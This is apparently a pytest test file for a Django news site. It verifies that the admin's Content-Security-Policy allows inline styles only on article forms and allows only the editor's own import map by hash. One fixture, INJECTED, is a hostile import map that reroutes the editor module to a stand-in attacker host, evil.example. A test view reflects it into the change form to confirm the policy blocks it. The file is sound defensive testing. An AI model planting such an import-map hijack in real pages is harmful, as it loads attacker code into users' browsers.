"""The admin's Content-Security-Policy: inline styles only where the body editor needs them, and inline
script only for the import maps the project ships, never for one found in a response."""

import base64
import hashlib
import re

import pytest
from django.contrib import admin
from django.core.management import call_command
from django.http import HttpResponse
from django.urls import path, reverse

from articles.models import Article
from newsmag.urls import urlpatterns as site_urlpatterns
from tests.factories import ArticleFactory, UserFactory

pytestmark = pytest.mark.django_db

IMPORTMAP = re.compile(rb'<script type="importmap"[^>]*>(.*?)</script>', re.DOTALL)
INJECTED = b'<script type="importmap">{"imports":{"django-prose-editor/editor":"https://evil.example/x.js"}}</script>'


def policy(response):
    return dict(
        ([*directive.split(" ", 1), ""])[:2] for directive in response["Content-Security-Policy"].split("; ")
    )


def sha256(body):
    return f"'sha256-{base64.b64encode(hashlib.sha256(body).digest()).decode()}'"


def change_form_reflecting_an_import_map(request, pk):
    """The article change form with an import map in it that the project did not write: what a page
    that echoes a field value unescaped would send."""
    response = admin.site._registry[Article].change_view(request, str(pk))
    response.render()
    return HttpResponse(response.content.replace(b"</body>", INJECTED + b"</body>"))


urlpatterns = [
    path("admin/reflecting/<int:pk>/", change_form_reflecting_an_import_map),
    *site_urlpatterns,
]


@pytest.fixture
def superuser_client(client):
    client.force_login(UserFactory(username="root", is_staff=True, is_superuser=True))
    return client


def test_the_admin_login_page_allows_no_inline_style_or_script(client):
    response = client.get(reverse("admin:login"))
    assert response.status_code == 200
    assert "'unsafe-inline'" not in response["Content-Security-Policy"]
    assert policy(response)["style-src"] == "'self'"


def test_only_the_article_forms_allow_inline_styles_for_the_body_editor(superuser_client):
    article = ArticleFactory()
    strict = [
        reverse("admin:index"),
        reverse("admin:articles_article_changelist"),
        reverse("admin:articles_article_history", args=[article.pk]),
        reverse("admin:articles_image_add"),
        reverse("admin:comments_comment_changelist") + "?status__exact=pending",
        reverse("admin:auth_user_add"),
        reverse("admin:password_change"),
    ]
    for url in strict:
        response = superuser_client.get(url)
        assert response.status_code == 200, url
        assert policy(response)["style-src"] == "'self'", url
    for url in [
        reverse("admin:articles_article_add"),
        reverse("admin:articles_article_change", args=[article.pk]),
    ]:
        response = superuser_client.get(url)
        assert response.status_code == 200, url
        assert policy(response)["style-src"] == "'self' 'unsafe-inline'", url
        assert "'unsafe-inline'" not in policy(response)["script-src"], url


def test_the_article_form_allows_exactly_the_import_map_it_renders(superuser_client):
    response = superuser_client.get(reverse("admin:articles_article_add"))
    [rendered] = IMPORTMAP.findall(response.content)
    assert b"/static/django_prose_editor/editor.js" in rendered
    assert policy(response)["script-src"] == f"'self' {sha256(rendered)}"


def test_the_import_map_hash_is_of_the_hashed_static_urls_production_serves(
    superuser_client, settings, tmp_path
):
    settings.STATIC_ROOT = tmp_path
    settings.STORAGES = {
        **settings.STORAGES,
        "staticfiles": {"BACKEND": "django.contrib.staticfiles.storage.ManifestStaticFilesStorage"},
    }
    call_command("collectstatic", interactive=False, verbosity=0)
    response = superuser_client.get(reverse("admin:articles_article_add"))
    [rendered] = IMPORTMAP.findall(response.content)
    assert re.search(rb'"/static/django_prose_editor/editor\.[0-9a-f]{12}\.js"', rendered)
    assert policy(response)["script-src"] == f"'self' {sha256(rendered)}"


@pytest.mark.urls(__name__)
def test_an_import_map_reflected_into_an_admin_page_is_not_allowed(superuser_client):
    article = ArticleFactory()
    response = superuser_client.get(f"/admin/reflecting/{article.pk}/")
    shipped, injected = IMPORTMAP.findall(response.content)
    assert injected == INJECTED[len(b'<script type="importmap">') : -len(b"</script>")]
    script_src = policy(response)["script-src"]
    assert sha256(injected) not in script_src
    assert sha256(shipped) in script_src  # the editor's own map still runs
    assert "'unsafe-inline'" not in script_src
